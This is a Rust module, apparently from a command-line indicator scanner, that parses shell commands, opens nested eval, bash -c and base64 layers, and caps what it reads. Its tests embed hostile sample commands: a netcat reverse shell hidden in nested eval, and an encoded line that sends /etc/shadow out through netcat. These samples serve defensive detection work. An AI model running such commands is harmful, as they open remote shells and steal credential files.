//! Reading a command line: which simple commands it holds, how they are joined,
//! and what program text hides inside arguments.
//!
//! This is a reading for indicators, not a shell: it never fails, keeps what it
//! does not understand as words, works without recursion, and stops at its caps.

mod indicators;
mod shell;

use base64::{
    Engine as _, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

pub(crate) use indicators::{INDICATORS, found_in};
pub(crate) use shell::Command;

use crate::render::{base_name, script_index, script_is_beyond};

/// Arguments of a program that are read.
const MAX_WORDS: usize = 512;
/// Layers of program text that are opened (bodies of `-c`, `eval`, decoded text).
const MAX_LAYERS: usize = 12;
/// Bytes of one layer that are read.
const MAX_LAYER_BYTES: usize = 16 * 1024;
/// Simple commands that are kept in all.
const MAX_COMMANDS: usize = 256;
/// Encoded arguments that are tried.
const MAX_DECODED: usize = 4;

/// What a command line says.
#[derive(Debug, Default)]
pub(crate) struct Reading {
    /// All simple commands of all layers.
    pub(crate) commands: Vec<Command>,
    /// The text of each layer, lower case.
    pub(crate) texts: Vec<String>,
    /// Whether a layer came out of an encoding.
    pub(crate) decoded: bool,
    /// Whether a cap was reached, so that something was not read.
    pub(crate) incomplete: bool,
}

impl Reading {
    /// Reads the arguments a program is started with.
    pub(crate) fn of_argv(args: &[String]) -> Self {
        Self::of_program(args, None)
    }

    /// As [`Reading::of_argv`]; `also` is another name under which the program is
    /// looked at.
    pub(crate) fn of_program(args: &[String], also: Option<&str>) -> Self {
        let mut reading = Self {
            incomplete: args.len() > MAX_WORDS
                || args.iter().any(|arg| arg.len() > MAX_LAYER_BYTES)
                || script_is_beyond(args),
            ..Self::default()
        };
        let words: Vec<String> = args.iter().take(MAX_WORDS).map(|arg| capped(arg)).collect();
        reading.texts.push(words.join(" ").to_lowercase());
        let renamed = also.map(|name| {
            let mut words = words.clone();
            match words.first_mut() {
                Some(first) => name.clone_into(first),
                None => words.push(name.to_owned()),
            }
            Command {
                // It is no part of the other's pipeline.
                pipeline: 1,
                ..Command::of_words(words)
            }
        });
        let mut commands = vec![Command::of_words(words)];
        commands.extend(renamed);
        reading.take(commands);
        reading
    }

    /// Reads a command line as one text.
    pub(crate) fn of_line(line: &str) -> Self {
        let mut reading = Self {
            incomplete: line.len() > MAX_LAYER_BYTES,
            ..Self::default()
        };
        let line = capped(line);
        reading.texts.push(line.to_lowercase());
        let commands = shell::commands_of(&line, &mut reading.incomplete);
        reading.take(commands);
        reading
    }

    /// Whether any layer contains one of `needles` (lower case).
    pub(crate) fn says(&self, needles: &[&str]) -> bool {
        self.texts
            .iter()
            .any(|text| needles.iter().any(|needle| text.contains(needle)))
    }

    /// Adds commands and, layer by layer, what is hidden in their arguments.
    fn take(&mut self, commands: Vec<Command>) {
        let mut waiting = vec![commands];
        let mut decoded_left = MAX_DECODED;
        while let Some(mut commands) = waiting.pop() {
            let left = MAX_COMMANDS.saturating_sub(self.commands.len());
            self.incomplete |= commands.len() > left;
            commands.truncate(left);
            for command in &commands {
                for layer in hidden_in(command, &mut decoded_left, &mut self.incomplete) {
                    if self.texts.len() >= MAX_LAYERS {
                        self.incomplete = true;
                        break;
                    }
                    self.decoded |= layer.decoded;
                    self.texts.push(layer.text.to_lowercase());
                    if layer.shell {
                        waiting.push(shell::commands_of(&layer.text, &mut self.incomplete));
                    }
                }
            }
            // Pipelines are numbered per layer: keep them apart.
            let offset = self
                .commands
                .iter()
                .map(|c| c.pipeline + 1)
                .max()
                .unwrap_or(0);
            for mut command in commands {
                command.pipeline += offset;
                self.commands.push(command);
            }
        }
    }
}

struct Layer {
    text: String,
    shell: bool,
    decoded: bool,
}

fn hidden_in(command: &Command, decoded_left: &mut usize, incomplete: &mut bool) -> Vec<Layer> {
    let mut layers = Vec::new();
    let words = &command.words;
    *incomplete |= script_is_beyond(words);
    if let Some(idx) = script_index(words) {
        let shell = words[..idx].iter().any(|word| is_shell(base_name(word)));
        if !shell {
            layers.extend(literals(&words[idx], incomplete));
        }
        *incomplete |= words[idx].len() > MAX_LAYER_BYTES;
        layers.push(Layer {
            text: capped(&words[idx]),
            shell,
            decoded: false,
        });
    }
    // `ssh host 'command'`, `docker exec name command`.
    if command.name() == "ssh"
        && let Some(last) = words.last().filter(|last| last.contains(' '))
    {
        layers.push(Layer {
            text: capped(last),
            shell: true,
            decoded: false,
        });
    }
    if command.name() == "eval" && !command.arguments().is_empty() {
        let line = command.arguments().join(" ");
        *incomplete |= line.len() > MAX_LAYER_BYTES;
        layers.push(Layer {
            text: capped(&line),
            shell: true,
            decoded: false,
        });
    }
    for word in words {
        if let Some(text) = decoded_text(word) {
            if *decoded_left == 0 {
                *incomplete = true;
                break;
            }
            *decoded_left -= 1;
            layers.push(Layer {
                text,
                shell: true,
                decoded: true,
            });
        }
    }
    layers
}

/// The string literals of program text that may be command lines, as layers.
fn literals(program: &str, incomplete: &mut bool) -> Vec<Layer> {
    const MAX_LITERALS: usize = 4;
    let mut found = Vec::new();
    let mut rest = program;
    while let Some(start) = rest.find(['"', '\'', '`', '{']) {
        let open = rest.as_bytes()[start];
        let close = if open == b'{' { '}' } else { char::from(open) };
        let body = &rest[start + 1..];
        let Some(end) = body.find(close) else { break };
        if open != b'{' || rest[..start].ends_with(['q', 'x']) {
            let literal = &body[..end];
            if literal.contains(' ') {
                if found.len() >= MAX_LITERALS {
                    *incomplete = true;
                    break;
                }
                found.push(Layer {
                    text: capped(&literal.replace("\\\"", "\"")),
                    shell: true,
                    decoded: false,
                });
            }
            rest = &body[end + 1..];
        } else {
            rest = body;
        }
    }
    found
}

/// The longest base64 run of `word`, decoded, if it is readable text.
fn decoded_text(word: &str) -> Option<String> {
    const LENIENT: GeneralPurpose = GeneralPurpose::new(
        &alphabet::STANDARD,
        GeneralPurposeConfig::new()
            .with_decode_allow_trailing_bits(true)
            .with_decode_padding_mode(DecodePaddingMode::Indifferent),
    );
    let run = word
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
        .max_by_key(|run| run.len())?;
    if run.len() < 16 || run.len() > MAX_LAYER_BYTES {
        return None;
    }
    let bytes = LENIENT.decode(run.trim_end_matches('=')).ok()?;
    let text = String::from_utf8(bytes).ok()?;
    let readable = text
        .chars()
        .all(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'));
    (readable && text.is_ascii() && text.contains([' ', '\n'])).then_some(text)
}

fn capped(text: &str) -> String {
    let mut end = text.len().min(MAX_LAYER_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text[..end].to_owned()
}

/// Whether a program name is a shell's.
pub(crate) fn is_shell(name: &str) -> bool {
    matches!(
        name.trim_start_matches('-'),
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "fish" | "rbash" | "mksh"
    )
}

/// Whether a program runs program text it is given.
pub(crate) fn is_interpreter(name: &str) -> bool {
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    is_shell(name)
        || matches!(
            stem,
            "python" | "pypy" | "perl" | "ruby" | "node" | "nodejs" | "php" | "lua" | "source"
                | "eval" | "."
        )
        // `trim_end_matches` takes the dot of the builtin away.
        || name == "."
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn program_text_in_arguments_is_opened_layer_by_layer() {
        let args = ["sudo", "bash", "-c", "eval 'sh -c \"nc -e /bin/sh h 1\"'"].map(String::from);
        let reading = Reading::of_argv(&args);
        let names: Vec<&str> = reading.commands.iter().map(Command::name).collect();
        assert_eq!(names, ["bash", "eval", "sh", "nc"]);
    }

    #[test]
    fn encoded_text_is_decoded_and_read() {
        // "cat /etc/shadow | nc h 1"
        let args = ["echo", "Y2F0IC9ldGMvc2hhZG93IHwgbmMgaCAx"].map(String::from);
        let reading = Reading::of_argv(&args);
        assert!(reading.decoded);
        assert!(reading.commands.iter().any(|c| c.name() == "nc"));
        let plain = Reading::of_argv(&["cat".into(), "/usr/lib/x86_64/libexampleNameLong".into()]);
        assert!(!plain.decoded);
    }

    #[test]
    fn any_text_is_read_within_the_caps() {
        for hostile in [
            "$(", "`", "((", "\"$(", "<(", "eval ", "sh -c '", "|", "\\", "<<<",
        ] {
            let text = hostile.repeat(40_000);
            let reading = Reading::of_line(&text);
            assert!(reading.commands.len() <= MAX_COMMANDS, "{hostile}");
            assert!(reading.texts.len() <= MAX_LAYERS, "{hostile}");
        }
    }
}
